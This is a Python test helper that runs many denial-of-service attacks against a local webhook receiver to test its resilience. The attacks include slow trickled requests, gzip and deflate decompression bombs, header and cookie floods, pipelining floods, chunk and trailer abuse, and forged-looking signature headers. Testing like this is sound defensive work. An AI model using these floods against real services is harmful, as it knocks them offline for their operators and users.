"""Attacks a receiver until it is terminated: `python -m tests.hostile.flood KIND PORT`.

It runs in a process of its own, so that what it costs does not slow the honest sender that the test measures. Each
attack opens its connections at once, holds what the receiver holds open, and opens new ones for those that end.
"""

import asyncio
import base64
import functools
import os
import sys
import time
import zlib

LARGE = 15_900_000
PIECE = bytes(64 * 1024)
FAL_ACCOUNT = "the-account"
PAUSE_SECONDS = 0.1
ATTACKS = {}


def attack(connections):
    """Register an attack on one connection, and how many of them run at the same time."""

    def register(function):
        ATTACKS[function.__name__] = function, connections
        return function

    return register


def head(path="/webhooks/supabase", *, length=None, content_type="application/json", **headers):
    size = "Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}"
    lines = [f"POST {path} HTTP/1.1", "Host: receiver", f"Content-Type: {content_type}", size]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def signature():
    """Headers in the form of a valid signature, which only the body could disprove."""
    value = "v1," + base64.b64encode(bytes(32)).decode()
    return {"webhook_id": "msg_1", "webhook_timestamp": int(time.time()), "webhook_signature": value}


def fal_signature():
    return {
        "X_Fal_Webhook_Request_Id": "r",
        "X_Fal_Webhook_User_Id": FAL_ACCOUNT,
        "X_Fal_Webhook_Timestamp": int(time.time()),
        "X_Fal_Webhook_Signature": "00" * 64,
    }


async def send(writer, size):
    for _ in range(size // len(PIECE)):
        writer.write(PIECE)
        await writer.drain()


async def trickle(writer, data=b"x"):
    while True:
        writer.write(data)
        await writer.drain()
        await asyncio.sleep(0.2)


@attack(16)
async def large_bodies(reader, writer):
    writer.write(head(length=LARGE))
    await send(writer, LARGE)
    await reader.read()


@attack(60)
async def many_large_bodies(reader, writer):
    await large_bodies(reader, writer)


@attack(60)
async def signed_large_bodies(reader, writer):
    writer.write(head(length=LARGE, **signature()))
    await send(writer, LARGE)
    await reader.read()


@attack(60)
async def fal_large_bodies(reader, writer):
    writer.write(head("/webhooks/fal", length=LARGE, **fal_signature()))
    await send(writer, LARGE)
    await reader.read()


@attack(60)
async def signed_large_bodies_held(_reader, writer):
    """Send most of each body at once, then the rest byte by byte."""
    writer.write(head(length=LARGE, **signature()))
    await send(writer, LARGE)
    await trickle(writer)


@attack(60)
async def signed_chunked_bodies(_reader, writer):
    writer.write(head(**signature()))
    while True:
        writer.write(b"10000\r\n" + PIECE + b"\r\n")
        await writer.drain()


@attack(300)
async def signed_small_bodies_held(_reader, writer):
    writer.write(head(length=60_000, **signature()) + bytes(59_000))
    await trickle(writer)


@attack(8)
async def multipart_sign_in(reader, writer):
    parts = b"".join(b'--b\r\nContent-Disposition: form-data; name="f%d"\r\n\r\nx\r\n' % n for n in range(999))
    body = parts + b"--b--\r\n"
    kind = "multipart/form-data; boundary=b"
    writer.write(head("/console/sign-in", length=len(body), content_type=kind, Connection="close") + body)
    await reader.read()


@functools.cache
def bomb(window_bits):
    """Return 254 MB of zeros in 250 KB, as gzip (31) or deflate (15)."""
    compressor = zlib.compressobj(wbits=window_bits)
    return b"".join(compressor.compress(bytes(LARGE)) for _ in range(16)) + compressor.flush()


async def send_bomb(reader, writer, coding, window_bits):
    body = bomb(window_bits)
    writer.write(head(length=len(body), Content_Encoding=coding, Connection="close", **signature()) + body)
    await reader.read()


@attack(8)
async def gzip_bombs(reader, writer):
    await send_bomb(reader, writer, "gzip", 31)


@attack(8)
async def deflate_bombs(reader, writer):
    await send_bomb(reader, writer, "deflate", 15)


@attack(500)
async def half_heads(reader, writer):
    writer.write(b"POST /webhooks/supabase HTTP/1.1\r\nHost: receiver\r\nX-A: ")
    await reader.read()


@attack(700)
async def trickled_heads(_reader, writer):
    writer.write(b"POST /webhooks/supabase HTTP/1.1\r\nHost: receiver\r\nX-A: ")
    await trickle(writer)


@attack(500)
async def large_heads(reader, writer):
    writer.write(b"GET / HTTP/1.1\r\n")
    for number in range(120):
        writer.write(b"X-%d: " % number + b"a" * 8000 + b"\r\n")
        await writer.drain()
    await reader.read()


@attack(400)
async def many_headers_without_value(reader, writer):
    await send_all(reader, writer, b"GET /healthz HTTP/1.1\r\nHost: receiver\r\n" + b"a:\r\n" * 4500)


@attack(100)
async def pipelined_requests(_reader, writer):
    """Send requests without reading the responses."""
    while True:
        writer.write(b"GET /openapi.json HTTP/1.1\r\nHost: receiver\r\n\r\n" * 100)
        await writer.drain()


@attack(100)
async def metrics_requests(reader, writer):
    writer.write(b"GET /metrics HTTP/1.1\r\nHost: receiver\r\nConnection: close\r\n\r\n" * 30)
    await reader.read()


async def send_all(reader, writer, *parts):
    writer.writelines(parts)
    await writer.drain()
    await reader.read()


@attack(200)
async def pipelined_in_one_read(reader, writer):
    await send_all(reader, writer, b"GET / HTTP/1.1\r\n\r\n" * 14_000)


@attack(200)
async def pipelined_behind_a_body(reader, writer):
    await send_all(reader, writer, head(length=2, **signature()), b"{}", b"GET / HTTP/1.1\r\n\r\n" * 14_000)


@attack(400)
async def tiny_chunks(reader, writer):
    await send_all(reader, writer, head(**signature()), b"2\r\nab\r\n" * 300_000)


@attack(100)
async def many_trailers(reader, writer):
    trailers = (b"A: " + b"x" * 1000 + b"\r\n") * 3000
    await send_all(reader, writer, head(**signature()), b"1\r\na\r\n0\r\n", trailers)


@attack(100)
async def many_cookies(reader, writer):
    cookies = b"Cookie: " + b"a=b;" * 1900
    await send_all(reader, writer, b"GET /console/ HTTP/1.1\r\nHost: receiver\r\n", cookies, b"\r\n\r\n")


async def ask_for(reader, writer, target):
    await send_all(reader, writer, b"GET " + target + b" HTTP/1.1\r\nHost: receiver\r\n\r\n")


@attack(50)
async def slow_hosts_as_target(reader, writer):
    await ask_for(reader, writer, b"http://xn--" + b"a" * 7900 + b"/")


@attack(50)
async def parents_as_target(reader, writer):
    await ask_for(reader, writer, b"/" + b"../" * 2600)


@attack(200)
async def aborted_bodies(_reader, writer):
    writer.write(head(length=60_000, **signature()) + bytes(1000))
    await writer.drain()
    await asyncio.sleep(0.05)


async def repeat(function, port):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                await function(reader, writer)
            finally:
                writer.transport.abort()
        except OSError:
            pass
        await asyncio.sleep(PAUSE_SECONDS)


async def main(kind, port):
    os.nice(19)  # a real attacker has processors of its own
    function, connections = ATTACKS[kind]
    await asyncio.gather(*(repeat(function, port) for _ in range(connections)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
